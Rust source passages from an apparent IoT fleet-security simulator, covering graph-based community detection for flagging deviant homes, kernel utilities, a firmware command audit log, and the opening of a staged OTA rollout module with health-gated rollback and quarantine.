/// leaving the results in `scratch.labels()` / `scratch.scores()`.
/// Output is identical to [`community_report_seeded`]; the only
/// difference is buffer reuse.
///
/// # Panics
///
/// Panics if `seed_labels` is `Some` with a length other than the matrix
/// row count.
pub fn community_report_into(
    k: usize,
    gamma: f64,
    max_iters: usize,
    seed_labels: Option<&[usize]>,
    scratch: &mut GraphScratch,
) {
    let n = scratch.matrix.rows();
    scratch.labels.clear();
    scratch.scores.clear();
    if n == 0 {
        return;
    }
    scratch.matrix.normalize();
    let k = k.min(n.saturating_sub(1)).max(1);
    similarity_graph_into(
        &scratch.matrix,
        k,
        gamma,
        &mut scratch.dist,
        &mut scratch.sel,
        &mut scratch.adj,
    );
    match seed_labels {
        Some(seed) => {
            assert_eq!(seed.len(), n, "one seed label per node");
            scratch.labels.extend_from_slice(seed);
        }
        None => scratch.labels.extend(0..n),
    }
    propagate_in_place(
        &scratch.adj,
        max_iters,
        &mut scratch.labels,
        &mut scratch.votes,
        &mut scratch.dirty,
    );
    deviation_scores_into(&scratch.adj, &scratch.labels, &mut scratch.scores);
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Two tight clusters of homes plus one outlier.
    fn features() -> Vec<Vec<f64>> {
        let mut f = Vec::new();
        for i in 0..5 {
            f.push(vec![0.0 + i as f64 * 0.01, 0.0]);
        }
        for i in 0..5 {
            f.push(vec![10.0 + i as f64 * 0.01, 10.0]);
        }
        f.push(vec![5.0, 5.0]); // the deviant home
        f
    }

    #[test]
    fn knn_graph_connects_within_clusters() {
        let adj = similarity_graph(&features(), 3, 0.5);
        // Node 0's neighbours should all be in the first cluster.
        for &(j, _) in &adj[0] {
            assert!(j < 5 || j == 10, "node 0 linked to {j}");
        }
    }

    #[test]
    fn label_propagation_finds_two_main_communities() {
        let adj = similarity_graph(&features(), 3, 0.5);
        let labels = label_propagation(&adj, 50);
        // All of cluster one shares a label; all of cluster two shares a
        // (different) label.
        assert!(labels[..5].iter().all(|&l| l == labels[0]));
        assert!(labels[5..10].iter().all(|&l| l == labels[5]));
        assert_ne!(labels[0], labels[5]);
    }

    #[test]
    fn deviant_home_scores_highest() {
        let adj = similarity_graph(&features(), 3, 0.5);
        let labels = label_propagation(&adj, 50);
        let scores = deviation_scores(&adj, &labels);
        let deviant = 10usize;
        for i in 0..10 {
            assert!(
                scores[deviant] > scores[i],
                "home {i} scored {} vs deviant {}",
                scores[i],
                scores[deviant]
            );
        }
    }

    #[test]
    fn isolated_nodes_score_max_deviation() {
        let adj = vec![vec![], vec![(0usize, 0.9)]];
        let labels = vec![0, 0];
        let scores = deviation_scores(&adj, &labels);
        assert_eq!(scores[0], 1.0);
    }

    #[test]
    fn propagation_is_deterministic() {
        let adj = similarity_graph(&features(), 3, 0.5);
        assert_eq!(label_propagation(&adj, 50), label_propagation(&adj, 50));
    }

    #[test]
    fn normalize_scales_each_dimension_to_unit_max() {
        let mut f = vec![vec![10.0, 0.0], vec![-5.0, 0.0]];
        normalize_features(&mut f);
        assert_eq!(f, vec![vec![1.0, 0.0], vec![-0.5, 0.0]]);
    }

    #[test]
    fn community_report_flags_the_outlier_end_to_end() {
        // Scale one dimension up so the raw features would mislead an
        // unnormalized graph; the batch entry point normalizes first.
        let mut scaled = features();
        for f in &mut scaled {
            f[0] *= 1000.0;
        }
        let report = community_report(&scaled, 3, 8.0, 50);
        assert_eq!(report.labels.len(), 11);
        let deviant = 10usize;
        for i in 0..10 {
            assert!(report.scores[deviant] > report.scores[i]);
        }
        // And it is reproducible.
        assert_eq!(report, community_report(&scaled, 3, 8.0, 50));
    }

    #[test]
    fn seeded_propagation_with_identity_seed_matches_unseeded() {
        let adj = similarity_graph(&features(), 3, 0.5);
        let identity: Vec<usize> = (0..adj.len()).collect();
        assert_eq!(
            label_propagation_seeded(&adj, 50, &identity),
            label_propagation(&adj, 50)
        );
    }

    #[test]
    fn seeded_propagation_preserves_converged_structure() {
        // Feeding a converged labelling back in is a fixed point: the
        // incremental pass keeps the communities it was given.
        let adj = similarity_graph(&features(), 3, 0.5);
        let converged = label_propagation(&adj, 50);
        let again = label_propagation_seeded(&adj, 50, &converged);
        assert_eq!(again, converged);
        // And the seeded batch entry point agrees end-to-end.
        let batch = community_report(&features(), 3, 0.5, 50);
        let seeded = community_report_seeded(&features(), 3, 0.5, 50, Some(&batch.labels));
        assert_eq!(seeded.labels, batch.labels);
        assert_eq!(seeded.scores, batch.scores);
    }

    #[test]
    fn community_report_handles_tiny_populations() {
        assert!(community_report(&[], 3, 1.0, 10).labels.is_empty());
        let one = community_report(&[vec![1.0]], 3, 1.0, 10);
        assert_eq!(one.labels, vec![0]);
        assert_eq!(one.scores, vec![1.0]); // no neighbours at all
    }
}
