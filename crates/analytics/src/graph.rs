//! Graph-based community learning (§IV-D): "users running the same IoT
//! devices and similar automation applications could be considered as a
//! group or community, which should present similar behaviors. Thus, XLF
//! Core should leverage the knowledge obtained from the group to perform
//! data correlations."
//!
//! Implementation: a kNN similarity graph over per-home behaviour
//! features, label-propagation community detection, and a per-node
//! deviation score (how unlike its own community a node behaves).

/// Builds a symmetric kNN similarity graph: `adj[i]` lists `(j, weight)`
/// for the `k` nearest neighbours of `i` by RBF similarity.
pub fn similarity_graph(features: &[Vec<f64>], k: usize, gamma: f64) -> Vec<Vec<(usize, f64)>> {
    let n = features.len();
    let sim = |i: usize, j: usize| -> f64 {
        let d2: f64 = features[i]
            .iter()
            .zip(&features[j])
            .map(|(a, b)| (a - b) * (a - b))
            .sum();
        (-gamma * d2).exp()
    };
    let mut adj = vec![Vec::new(); n];
    #[allow(clippy::needless_range_loop)]
    for i in 0..n {
        let mut neighbours: Vec<(usize, f64)> =
            (0..n).filter(|&j| j != i).map(|j| (j, sim(i, j))).collect();
        neighbours.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(std::cmp::Ordering::Equal));
        neighbours.truncate(k);
        adj[i] = neighbours;
    }
    // Symmetrize: if i lists j, ensure j lists i.
    for i in 0..n {
        let edges: Vec<(usize, f64)> = adj[i].clone();
        for (j, w) in edges {
            if !adj[j].iter().any(|&(t, _)| t == i) {
                adj[j].push((i, w));
            }
        }
    }
    adj
}

/// Label-propagation community detection: every node starts in its own
/// community and repeatedly adopts the weighted-majority label of its
/// neighbours. Deterministic: ties break toward the smaller label and
/// nodes update in index order.
pub fn label_propagation(adj: &[Vec<(usize, f64)>], max_iters: usize) -> Vec<usize> {
    let seed: Vec<usize> = (0..adj.len()).collect();
    label_propagation_seeded(adj, max_iters, &seed)
}

/// Label propagation from caller-supplied starting labels — the
/// incremental entry point. An online correlator carries each node's
/// label from the previous epoch into the next one, so propagation
/// re-converges from the last known community structure instead of from
/// scratch. Same deterministic update rule as [`label_propagation`].
///
/// # Panics
///
/// Panics if `seed.len() != adj.len()`.
pub fn label_propagation_seeded(
    adj: &[Vec<(usize, f64)>],
    max_iters: usize,
    seed: &[usize],
) -> Vec<usize> {
    let n = adj.len();
    assert_eq!(seed.len(), n, "one seed label per node");
    let mut labels: Vec<usize> = seed.to_vec();
    for _ in 0..max_iters {
        let mut changed = false;
        for i in 0..n {
            if adj[i].is_empty() {
                continue;
            }
            // Weighted vote of neighbour labels.
            let mut votes: std::collections::BTreeMap<usize, f64> =
                std::collections::BTreeMap::new();
            for &(j, w) in &adj[i] {
                *votes.entry(labels[j]).or_insert(0.0) += w;
            }
            let (&best_label, _) = votes
                .iter()
                .max_by(|a, b| {
                    a.1.partial_cmp(b.1)
                        .unwrap_or(std::cmp::Ordering::Equal)
                        .then(b.0.cmp(a.0)) // tie → smaller label wins
                })
                .expect("non-empty votes");
            if labels[i] != best_label {
                labels[i] = best_label;
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    labels
}

/// Deviation score per node: 1 − (mean similarity to same-community
/// neighbours). Nodes that joined a community but sit far from it — the
/// "one deviant home" of E-M6 — score high.
pub fn deviation_scores(adj: &[Vec<(usize, f64)>], labels: &[usize]) -> Vec<f64> {
    adj.iter()
        .enumerate()
        .map(|(i, edges)| {
            let same: Vec<f64> = edges
                .iter()
                .filter(|&&(j, _)| labels[j] == labels[i])
                .map(|&(_, w)| w)
                .collect();
            if same.is_empty() {
                1.0
            } else {
                1.0 - same.iter().sum::<f64>() / same.len() as f64
            }
        })
        .collect()
}

/// Scales each feature dimension by its max absolute value so raw counts
/// do not dominate the RBF distance. Dimensions that are zero everywhere
/// are left untouched.
pub fn normalize_features(features: &mut [Vec<f64>]) {
    let Some(first) = features.first() else {
        return;
    };
    for d in 0..first.len() {
        let max = features.iter().map(|f| f[d].abs()).fold(0.0f64, f64::max);
        if max > 1e-12 {
            for f in features.iter_mut() {
                f[d] /= max;
            }
        }
    }
}

/// Output of the batch community-scoring entry point.
#[derive(Debug, Clone, PartialEq)]
pub struct CommunityReport {
    /// Community label per node (label-propagation output).
    pub labels: Vec<usize>,
    /// Deviation score per node (high = unlike its own community).
    pub scores: Vec<f64>,
}

/// Batch entry point for fleet-scale graph scoring: normalizes the
/// feature matrix, builds the kNN similarity graph, runs deterministic
/// label propagation, and scores per-node deviation — the whole E-M6
/// pipeline in one call. `k` is clamped to the population size.
pub fn community_report(
    features: &[Vec<f64>],
    k: usize,
    gamma: f64,
    max_iters: usize,
) -> CommunityReport {
    community_report_seeded(features, k, gamma, max_iters, None)
}

/// Incremental variant of [`community_report`]: when `seed_labels` is
/// given (one label per row), label propagation starts from those labels
/// instead of from the identity assignment. An epoch-by-epoch correlator
/// feeds the previous epoch's labels back in so community structure is
/// refined, not rebuilt, at each step. With `None` this is exactly the
/// batch pipeline.
///
/// # Panics
///
/// Panics if `seed_labels` is `Some` with a length other than
/// `features.len()`.
pub fn community_report_seeded(
    features: &[Vec<f64>],
    k: usize,
    gamma: f64,
    max_iters: usize,
    seed_labels: Option<&[usize]>,
) -> CommunityReport {
    if features.is_empty() {
        return CommunityReport {
            labels: Vec::new(),
            scores: Vec::new(),
        };
    }
    let mut normalized = features.to_vec();
    normalize_features(&mut normalized);
    let k = k.min(normalized.len().saturating_sub(1)).max(1);
    let adj = similarity_graph(&normalized, k, gamma);
    let labels = match seed_labels {
        Some(seed) => label_propagation_seeded(&adj, max_iters, seed),
        None => label_propagation(&adj, max_iters),
    };
    let scores = deviation_scores(&adj, &labels);
    CommunityReport { labels, scores }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Two tight clusters of homes plus one outlier.
    fn features() -> Vec<Vec<f64>> {
        let mut f = Vec::new();
        for i in 0..5 {
            f.push(vec![0.0 + i as f64 * 0.01, 0.0]);
        }
        for i in 0..5 {
            f.push(vec![10.0 + i as f64 * 0.01, 10.0]);
        }
        f.push(vec![5.0, 5.0]); // the deviant home
        f
    }

    #[test]
    fn knn_graph_connects_within_clusters() {
        let adj = similarity_graph(&features(), 3, 0.5);
        // Node 0's neighbours should all be in the first cluster.
        for &(j, _) in &adj[0] {
            assert!(j < 5 || j == 10, "node 0 linked to {j}");
        }
    }

    #[test]
    fn label_propagation_finds_two_main_communities() {
        let adj = similarity_graph(&features(), 3, 0.5);
        let labels = label_propagation(&adj, 50);
        // All of cluster one shares a label; all of cluster two shares a
        // (different) label.
        assert!(labels[..5].iter().all(|&l| l == labels[0]));
        assert!(labels[5..10].iter().all(|&l| l == labels[5]));
        assert_ne!(labels[0], labels[5]);
    }

    #[test]
    fn deviant_home_scores_highest() {
        let adj = similarity_graph(&features(), 3, 0.5);
        let labels = label_propagation(&adj, 50);
        let scores = deviation_scores(&adj, &labels);
        let deviant = 10usize;
        for i in 0..10 {
            assert!(
                scores[deviant] > scores[i],
                "home {i} scored {} vs deviant {}",
                scores[i],
                scores[deviant]
            );
        }
    }

    #[test]
    fn isolated_nodes_score_max_deviation() {
        let adj = vec![vec![], vec![(0usize, 0.9)]];
        let labels = vec![0, 0];
        let scores = deviation_scores(&adj, &labels);
        assert_eq!(scores[0], 1.0);
    }

    #[test]
    fn propagation_is_deterministic() {
        let adj = similarity_graph(&features(), 3, 0.5);
        assert_eq!(label_propagation(&adj, 50), label_propagation(&adj, 50));
    }

    #[test]
    fn normalize_scales_each_dimension_to_unit_max() {
        let mut f = vec![vec![10.0, 0.0], vec![-5.0, 0.0]];
        normalize_features(&mut f);
        assert_eq!(f, vec![vec![1.0, 0.0], vec![-0.5, 0.0]]);
    }

    #[test]
    fn community_report_flags_the_outlier_end_to_end() {
        // Scale one dimension up so the raw features would mislead an
        // unnormalized graph; the batch entry point normalizes first.
        let mut scaled = features();
        for f in &mut scaled {
            f[0] *= 1000.0;
        }
        let report = community_report(&scaled, 3, 8.0, 50);
        assert_eq!(report.labels.len(), 11);
        let deviant = 10usize;
        for i in 0..10 {
            assert!(report.scores[deviant] > report.scores[i]);
        }
        // And it is reproducible.
        assert_eq!(report, community_report(&scaled, 3, 8.0, 50));
    }

    #[test]
    fn seeded_propagation_with_identity_seed_matches_unseeded() {
        let adj = similarity_graph(&features(), 3, 0.5);
        let identity: Vec<usize> = (0..adj.len()).collect();
        assert_eq!(
            label_propagation_seeded(&adj, 50, &identity),
            label_propagation(&adj, 50)
        );
    }

    #[test]
    fn seeded_propagation_preserves_converged_structure() {
        // Feeding a converged labelling back in is a fixed point: the
        // incremental pass keeps the communities it was given.
        let adj = similarity_graph(&features(), 3, 0.5);
        let converged = label_propagation(&adj, 50);
        let again = label_propagation_seeded(&adj, 50, &converged);
        assert_eq!(again, converged);
        // And the seeded batch entry point agrees end-to-end.
        let batch = community_report(&features(), 3, 0.5, 50);
        let seeded = community_report_seeded(&features(), 3, 0.5, 50, Some(&batch.labels));
        assert_eq!(seeded.labels, batch.labels);
        assert_eq!(seeded.scores, batch.scores);
    }

    #[test]
    fn community_report_handles_tiny_populations() {
        assert!(community_report(&[], 3, 1.0, 10).labels.is_empty());
        let one = community_report(&[vec![1.0]], 3, 1.0, 10);
        assert_eq!(one.labels, vec![0]);
        assert_eq!(one.scores, vec![1.0]); // no neighbours at all
    }
}
