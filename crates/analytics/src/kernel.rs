//! Kernels over feature vectors, the building blocks of the MKL module.

/// A positive-semidefinite kernel over `Vec<f64>` feature vectors.
#[derive(Debug, Clone, PartialEq)]
pub enum Kernel {
    /// Dot product.
    Linear,
    /// Gaussian RBF with bandwidth `gamma`.
    Rbf {
        /// Bandwidth (exp(-gamma‖x−y‖²)).
        gamma: f64,
    },
    /// Polynomial `(x·y + c)^degree`.
    Polynomial {
        /// Exponent.
        degree: u32,
        /// Offset.
        offset: f64,
    },
}

impl Kernel {
    /// Evaluates k(x, y).
    ///
    /// # Panics
    ///
    /// Panics if the vectors have different lengths.
    pub fn eval(&self, x: &[f64], y: &[f64]) -> f64 {
        assert_eq!(x.len(), y.len(), "kernel inputs must have equal dims");
        match self {
            Kernel::Linear => dot(x, y),
            Kernel::Rbf { gamma } => {
                let d2: f64 = x.iter().zip(y).map(|(a, b)| (a - b) * (a - b)).sum();
                (-gamma * d2).exp()
            }
            Kernel::Polynomial { degree, offset } => (dot(x, y) + offset).powi(*degree as i32),
        }
    }

    /// Computes the Gram matrix of a dataset.
    pub fn gram(&self, data: &[Vec<f64>]) -> Vec<Vec<f64>> {
        let mut g = Vec::new();
        self.gram_into(data, &mut g);
        g
    }

    /// Fills `out` with the Gram matrix of `data`, reusing its row
    /// allocations — the hot-loop variant of [`Kernel::gram`] for callers
    /// that compute Gram matrices repeatedly.
    pub fn gram_into(&self, data: &[Vec<f64>], out: &mut Vec<Vec<f64>>) {
        let n = data.len();
        out.truncate(n);
        out.resize_with(n, Vec::new);
        for row in out.iter_mut() {
            row.clear();
            row.resize(n, 0.0);
        }
        for i in 0..n {
            for j in i..n {
                let v = self.eval(&data[i], &data[j]);
                out[i][j] = v;
                out[j][i] = v;
            }
        }
    }
}

/// Dot product of two equal-length vectors — the one shared helper
/// behind every kernel evaluation and the similarity-graph sweep.
///
/// Unrolled four-wide with independent accumulators so the compiler can
/// overlap the multiply-add chains; both the blocked and the retained
/// naive similarity paths call this, which is what makes them
/// bit-identical.
pub fn dot(x: &[f64], y: &[f64]) -> f64 {
    debug_assert_eq!(x.len(), y.len(), "dot inputs must have equal dims");
    let mut acc = [0.0f64; 4];
    for (cx, cy) in x.chunks_exact(4).zip(y.chunks_exact(4)) {
        acc[0] += cx[0] * cy[0];
        acc[1] += cx[1] * cy[1];
        acc[2] += cx[2] * cy[2];
        acc[3] += cx[3] * cy[3];
    }
    let rem = x.len() - x.len() % 4;
    let mut tail = 0.0;
    for (a, b) in x[rem..].iter().zip(&y[rem..]) {
        tail += a * b;
    }
    (acc[0] + acc[1]) + (acc[2] + acc[3]) + tail
}

/// Centers a Gram matrix in feature space: K ← HKH with H = I − 1/n.
pub fn center(gram: &[Vec<f64>]) -> Vec<Vec<f64>> {
    let n = gram.len();
    if n == 0 {
        return Vec::new();
    }
    let nf = n as f64;
    let row_means: Vec<f64> = gram.iter().map(|r| r.iter().sum::<f64>() / nf).collect();
    let total_mean: f64 = row_means.iter().sum::<f64>() / nf;
    let mut out = vec![vec![0.0; n]; n];
    for i in 0..n {
        for j in 0..n {
            out[i][j] = gram[i][j] - row_means[i] - row_means[j] + total_mean;
        }
    }
    out
}

/// Frobenius inner product of two matrices.
pub fn frobenius(a: &[Vec<f64>], b: &[Vec<f64>]) -> f64 {
    a.iter()
        .zip(b)
        .map(|(ra, rb)| ra.iter().zip(rb).map(|(x, y)| x * y).sum::<f64>())
        .sum()
}

/// Centered-kernel alignment between a Gram matrix and the label target
/// matrix yyᵀ — the weight heuristic the MKL module uses.
pub fn alignment(gram: &[Vec<f64>], labels: &[f64]) -> f64 {
    let n = labels.len();
    assert_eq!(gram.len(), n);
    let target: Vec<Vec<f64>> = labels
        .iter()
        .map(|&yi| labels.iter().map(|&yj| yi * yj).collect())
        .collect();
    let kc = center(gram);
    let num = frobenius(&kc, &target);
    let den = (frobenius(&kc, &kc).sqrt()) * (frobenius(&target, &target).sqrt());
    if den <= f64::EPSILON {
        0.0
    } else {
        (num / den).max(0.0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn linear_kernel_is_dot_product() {
        assert_eq!(Kernel::Linear.eval(&[1.0, 2.0], &[3.0, 4.0]), 11.0);
    }

    #[test]
    fn rbf_kernel_properties() {
        let k = Kernel::Rbf { gamma: 0.5 };
        // k(x,x) = 1, decreasing in distance, symmetric.
        assert!((k.eval(&[1.0, 2.0], &[1.0, 2.0]) - 1.0).abs() < 1e-12);
        let near = k.eval(&[0.0], &[0.1]);
        let far = k.eval(&[0.0], &[3.0]);
        assert!(near > far);
        assert_eq!(k.eval(&[1.0], &[2.0]), k.eval(&[2.0], &[1.0]));
    }

    #[test]
    fn polynomial_kernel() {
        let k = Kernel::Polynomial {
            degree: 2,
            offset: 1.0,
        };
        assert_eq!(k.eval(&[1.0], &[2.0]), 9.0); // (2+1)^2
    }

    #[test]
    fn gram_matrix_is_symmetric_with_unit_diag_for_rbf() {
        let data = vec![vec![0.0, 1.0], vec![1.0, 0.0], vec![2.0, 2.0]];
        let g = Kernel::Rbf { gamma: 1.0 }.gram(&data);
        for (i, row) in g.iter().enumerate() {
            assert!((row[i] - 1.0).abs() < 1e-12);
            for (j, &v) in row.iter().enumerate() {
                assert!((v - g[j][i]).abs() < 1e-12);
            }
        }
    }

    #[test]
    fn centering_zeroes_row_sums() {
        let data = vec![vec![1.0], vec![2.0], vec![5.0]];
        let g = Kernel::Linear.gram(&data);
        let c = center(&g);
        for row in &c {
            assert!(row.iter().sum::<f64>().abs() < 1e-9);
        }
    }

    #[test]
    fn alignment_prefers_label_consistent_kernels() {
        // Two clusters; labels follow the clusters. An RBF kernel that
        // separates them should align better than a random-ish one.
        let data = vec![
            vec![0.0, 0.0],
            vec![0.1, 0.0],
            vec![5.0, 5.0],
            vec![5.1, 5.0],
        ];
        let labels = vec![1.0, 1.0, -1.0, -1.0];
        let good = alignment(&Kernel::Rbf { gamma: 1.0 }.gram(&data), &labels);
        // A kernel with huge bandwidth sees everything as similar → low
        // alignment.
        let flat = alignment(&Kernel::Rbf { gamma: 1e-9 }.gram(&data), &labels);
        assert!(good > flat, "good={good} flat={flat}");
    }

    #[test]
    #[should_panic(expected = "equal dims")]
    fn dimension_mismatch_panics() {
        Kernel::Linear.eval(&[1.0], &[1.0, 2.0]);
    }

    #[test]
    fn dot_handles_every_tail_length() {
        for n in 0..9usize {
            let x: Vec<f64> = (0..n).map(|i| i as f64 + 1.0).collect();
            let expected: f64 = x.iter().map(|v| v * v).sum();
            assert_eq!(dot(&x, &x), expected);
        }
    }

    #[test]
    fn gram_into_overwrites_a_dirty_buffer() {
        let data = vec![vec![0.0, 1.0], vec![1.0, 0.0], vec![2.0, 2.0]];
        let k = Kernel::Rbf { gamma: 1.0 };
        let mut out = vec![vec![9.0; 7]; 5]; // wrong shape, stale values
        k.gram_into(&data, &mut out);
        assert_eq!(out, k.gram(&data));
    }
}
