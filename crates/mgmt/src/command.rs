//! The fleet-wide command bus: a deterministic, append-only log of
//! control-plane commands and what became of them.
//!
//! Modelled on thin-edge.io's device-management command flow (a command
//! is published, a device-side plugin executes it, the outcome is
//! reported back), collapsed to the synchronous simulated case: the
//! issuer records the command *with* its disposition in one step. The
//! log is the audit trail the report's `campaigns.commands` section and
//! the campaign metrics are derived from.

use std::fmt;
use xlf_stream::{CheckpointError, Reader, Writer};

/// What a control-plane command asks a device to do.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum CommandKind {
    /// Install a staged firmware image (campaign wave).
    FirmwareUpdate,
    /// Return to the known-good image (containment).
    FirmwareRollback,
    /// Isolate the device pending investigation (containment).
    Quarantine,
    /// Reset a drifted configuration to the golden fingerprint.
    ConfigRemediate,
}

/// Every command kind, in stable order (drives per-kind accounting).
pub const COMMAND_KINDS: [CommandKind; 4] = [
    CommandKind::FirmwareUpdate,
    CommandKind::FirmwareRollback,
    CommandKind::Quarantine,
    CommandKind::ConfigRemediate,
];

impl CommandKind {
    /// Stable short name (used in reports and JSON).
    pub fn name(&self) -> &'static str {
        match self {
            CommandKind::FirmwareUpdate => "firmware-update",
            CommandKind::FirmwareRollback => "firmware-rollback",
            CommandKind::Quarantine => "quarantine",
            CommandKind::ConfigRemediate => "config-remediate",
        }
    }
}

impl fmt::Display for CommandKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// What became of an issued command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Disposition {
    /// The device executed the command.
    Applied,
    /// The device refused (the device-layer check that fired).
    Rejected(String),
    /// Issued to an out-of-band channel; no device-side execution to
    /// observe (e.g. quarantine markers consumed by the operator tier).
    Issued,
}

impl Disposition {
    /// Stable short name (used in reports and JSON).
    pub fn name(&self) -> &'static str {
        match self {
            Disposition::Applied => "applied",
            Disposition::Rejected(_) => "rejected",
            Disposition::Issued => "issued",
        }
    }
}

/// One command in the control-plane audit log.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandRecord {
    /// Fleet-wide home the command targeted.
    pub home: u64,
    /// Device within the home (or `"config"` for config commands).
    pub device: String,
    /// Stream epoch the command was issued in.
    pub epoch: u64,
    /// What was asked.
    pub kind: CommandKind,
    /// What happened.
    pub disposition: Disposition,
}

/// The append-only command log. Commands are recorded in issue order,
/// which is deterministic: the campaign/audit engines iterate homes in
/// id order and epochs in sequence.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CommandBus {
    log: Vec<CommandRecord>,
}

impl CommandBus {
    /// An empty bus.
    pub fn new() -> Self {
        CommandBus::default()
    }

    /// Appends one command with its disposition.
    pub fn record(
        &mut self,
        home: u64,
        device: &str,
        epoch: u64,
        kind: CommandKind,
        disposition: Disposition,
    ) {
        self.log.push(CommandRecord {
            home,
            device: device.to_string(),
            epoch,
            kind,
            disposition,
        });
    }

    /// The full audit log, in issue order.
    pub fn log(&self) -> &[CommandRecord] {
        &self.log
    }

    /// Total commands recorded.
    pub fn total(&self) -> u64 {
        self.log.len() as u64
    }

    /// Commands of `kind` that were applied.
    pub fn applied(&self, kind: CommandKind) -> u64 {
        self.count_by(kind, |d| matches!(d, Disposition::Applied))
    }

    /// Commands of `kind` the device rejected.
    pub fn rejected(&self, kind: CommandKind) -> u64 {
        self.count_by(kind, |d| matches!(d, Disposition::Rejected(_)))
    }

    /// Commands of `kind` issued out-of-band.
    pub fn issued(&self, kind: CommandKind) -> u64 {
        self.count_by(kind, |d| matches!(d, Disposition::Issued))
    }

    fn count_by(&self, kind: CommandKind, pred: impl Fn(&Disposition) -> bool) -> u64 {
        self.log
            .iter()
            .filter(|r| r.kind == kind && pred(&r.disposition))
            .count() as u64
    }

    /// Serializes the full audit log into a run-level snapshot section.
    pub fn checkpoint_into(&self, w: &mut Writer) {
        w.usize(self.log.len());
        for rec in &self.log {
            w.u64(rec.home);
            write_str(w, &rec.device);
            w.u64(rec.epoch);
            let kind = COMMAND_KINDS
                .iter()
                .position(|k| *k == rec.kind)
                .unwrap_or(0);
            w.u8(kind as u8);
            match &rec.disposition {
                Disposition::Applied => w.u8(0),
                Disposition::Rejected(reason) => {
                    w.u8(1);
                    write_str(w, reason);
                }
                Disposition::Issued => w.u8(2),
            }
        }
    }

    /// Restores a bus serialized with [`CommandBus::checkpoint_into`].
    ///
    /// # Errors
    ///
    /// [`CheckpointError`] on any framing violation or malformed content
    /// (unknown kind index / disposition tag, invalid UTF-8).
    pub fn restore_from(r: &mut Reader) -> Result<CommandBus, CheckpointError> {
        let n = r.usize()?;
        let mut log = Vec::new();
        for _ in 0..n {
            let home = r.u64()?;
            let device = read_string(r)?;
            let epoch = r.u64()?;
            let kind = *COMMAND_KINDS
                .get(usize::from(r.u8()?))
                .ok_or(CheckpointError::Truncated)?;
            let disposition = match r.u8()? {
                0 => Disposition::Applied,
                1 => Disposition::Rejected(read_string(r)?),
                2 => Disposition::Issued,
                _ => return Err(CheckpointError::Truncated),
            };
            log.push(CommandRecord {
                home,
                device,
                epoch,
                kind,
                disposition,
            });
        }
        Ok(CommandBus { log })
    }
}

/// Length-prefixed UTF-8 string encoding shared by the snapshot sections.
fn write_str(w: &mut Writer, s: &str) {
    w.usize(s.len());
    w.bytes(s.as_bytes());
}

fn read_string(r: &mut Reader) -> Result<String, CheckpointError> {
    let len = r.usize()?;
    String::from_utf8(r.bytes(len)?.to_vec()).map_err(|_| CheckpointError::Truncated)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bus_accounts_by_kind_and_disposition() {
        let mut bus = CommandBus::new();
        bus.record(
            1,
            "cam",
            8,
            CommandKind::FirmwareUpdate,
            Disposition::Applied,
        );
        bus.record(
            2,
            "cam",
            8,
            CommandKind::FirmwareUpdate,
            Disposition::Rejected("update rejected: unsigned image".to_string()),
        );
        bus.record(1, "cam", 11, CommandKind::Quarantine, Disposition::Issued);
        assert_eq!(bus.total(), 3);
        assert_eq!(bus.applied(CommandKind::FirmwareUpdate), 1);
        assert_eq!(bus.rejected(CommandKind::FirmwareUpdate), 1);
        assert_eq!(bus.issued(CommandKind::Quarantine), 1);
        assert_eq!(bus.applied(CommandKind::FirmwareRollback), 0);
        assert_eq!(bus.log().len(), 3);
        assert_eq!(bus.log()[0].home, 1);
    }

    #[test]
    fn kind_names_are_stable_and_cover_all_kinds() {
        let names: Vec<&str> = COMMAND_KINDS.iter().map(|k| k.name()).collect();
        assert_eq!(
            names,
            vec![
                "firmware-update",
                "firmware-rollback",
                "quarantine",
                "config-remediate"
            ]
        );
    }
}
