//! Staged OTA rollout campaigns with stream-alert health gates.
//!
//! A [`CampaignSpec`] stages one firmware release through cumulative
//! percentage waves (e.g. 10% → 30% → 60% → 100%). Wave membership is a
//! pure hash of `(master_seed, home id)` — the same SplitMix64 chain the
//! fleet uses to stamp faults, mixed with a campaign-specific salt — so
//! cohorts are layout-invariant: byte-reproducible across worker counts,
//! independent of the attack/fault mixes, and *nested* (a home in wave
//! `w` is in every later wave).
//!
//! Between waves a [`HealthGate`] consumes the stream correlator's
//! flagged-home set: if the fraction of already-updated homes that the
//! correlator has flagged exceeds the gate threshold, the rollout halts
//! and the engine issues rollback + quarantine commands for the updated
//! cohort. A supply-chain-compromised release (the [`OtaServer`] serving
//! an unsigned, implant-carrying image) therefore reaches at most the
//! first wave's share of the fleet before containment — the Table II
//! firmware-modulation attack met with detection *and* response.

use crate::command::{CommandBus, CommandKind, Disposition};
use std::collections::{BTreeMap, BTreeSet};
use xlf_attacks::device::{FirmwareTamperer, IMPLANT_MARKER};
use xlf_cloud::OtaServer;
use xlf_device::firmware::{FirmwareImage, FirmwareStore, UpdatePolicy, Version};
use xlf_stream::{CheckpointError, Reader, Writer};

/// SplitMix64 (same mixer as the fleet stamping pipeline — kept local so
/// the control plane depends only on device/cloud primitives).
fn splitmix64(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// Salt for the campaign-cohort hash word. Like the fleet's fault word,
/// it branches off the stamping chain's `h1` so campaign membership
/// never relayouts (and is never relayouted by) seeds, templates,
/// attacks, or faults.
const CAMPAIGN_SALT: u64 = 0x0CA3_BA1D_0000_0007;

/// A home's rollout percentile in `0..100`: the home joins wave `w` iff
/// `cohort_point < waves[w]`. Derived from the fleet stamping chain
/// (`h0 = sm(master ^ sm(id))`, `h1 = sm(h0)`) with the campaign salt,
/// so it is a pure function of `(master_seed, home)` — identical for
/// every worker count and stable when the attack/fault mixes change.
pub fn cohort_point(master_seed: u64, home: u64) -> u64 {
    let h0 = splitmix64(master_seed ^ splitmix64(home));
